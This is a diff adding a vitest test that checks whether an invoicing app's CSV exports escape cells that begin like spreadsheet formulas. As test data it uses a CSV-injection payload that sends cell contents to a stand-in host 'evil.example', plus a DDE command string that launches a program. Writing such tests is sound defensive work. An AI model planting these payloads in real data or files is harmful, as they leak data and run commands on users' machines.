@@ -1,0 +1,58 @@
+import { parse } from 'csv-parse/sync';
+import { expect, test } from 'vitest';
+import { contract } from '#app/contract.ts';
+import { startApi } from '#test/api.ts';
+import { aContact, aJob, anEstimate, anInvoice, aPayment } from '#test/factories.ts';
+
+const api = await startApi();
+const dana = await api.as('Admin Project manager');
+
+/** What a spreadsheet would compute, and a program that it would start. */
+const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"x")`;
+const COMMAND = '@SUM(1+1)*cmd|calc!A0';
+
+const exports = Object.entries(contract).flatMap(([feature, endpoints]) =>
+  Object.values(endpoints)
+    .filter(({ produces, path }) => produces === 'text/csv' && !path.includes(':'))
+    .map(({ path }) => ({ feature, path })),
+);
+
+test('every export writes texts that start like a formula as mere text (D32)', async () => {
+  const client = await aContact(dana, {
+    name: FORMULA,
+    company: COMMAND,
+    address: `+${FORMULA}`,
+    notes: `-1${COMMAND}`,
+  });
+  const job = await aJob(dana, { clientId: client.id, title: COMMAND, city: FORMULA });
+  const texts = { description: FORMULA, notes: COMMAND };
+  await anEstimate(dana, { clientId: client.id, jobId: job.id, title: FORMULA, ...texts });
+  const invoice = await anInvoice(dana, {
+    clientId: client.id,
+    jobId: job.id,
+    invoiceNumber: '=1004',
+    ...texts,
+  });
+  await aPayment(dana, { invoiceId: invoice.id, notes: FORMULA, reference: COMMAND });
+
+  expect(exports.map(({ feature }) => feature)).toEqual([
+    'contacts',
+    'jobs',
+    'estimates',
+    'invoices',
+    'payments',
+  ]);
+  for (const { path } of exports) {
+    const { status, bytes, headers } = await dana.get(path);
+    expect(status, path).toBe(200);
+    expect(headers['content-disposition'], path).toMatch(/^attachment; filename="export\.csv"/);
+    const [, ...rows] = parse(bytes, { bom: true }) as string[][];
+    const cells = rows.flat();
+
+    expect(cells.filter((cell) => cell.startsWith("'")).length, path).toBeGreaterThanOrEqual(2);
+    expect(
+      cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell))),
+      path,
+    ).toEqual([]);
+  }
+});
